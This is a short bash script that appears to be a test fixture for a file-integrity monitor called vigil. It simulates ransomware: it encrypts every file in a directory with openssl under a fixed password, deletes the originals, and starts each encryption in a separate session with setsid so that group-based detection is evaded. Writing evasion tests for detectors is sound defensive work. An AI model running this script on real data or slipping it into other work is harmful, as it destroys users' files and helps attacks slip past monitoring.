#!/usr/bin/env bash
# ransom_setsid.sh DIR -- a test ransomware whose workers leave its
# process group: each file is encrypted by an `openssl enc` started in a
# session of its own (setsid), to FILE.lockbit, and the original deleted,
# so that no one group or session ever writes more than one file. For
# vigil's tests only (tests/integration/test_fim_evasion.sh).
dir=$1
find "$dir" -type f ! -name '*.lockbit' -print0 |
    while IFS= read -r -d '' f; do
        setsid -w openssl enc -aes-256-cbc -pbkdf2 -iter 1 \
            -pass pass:vigil-test -in "$f" -out "$f.lockbit" 2>/dev/null &&
            rm -f -- "$f"
    done
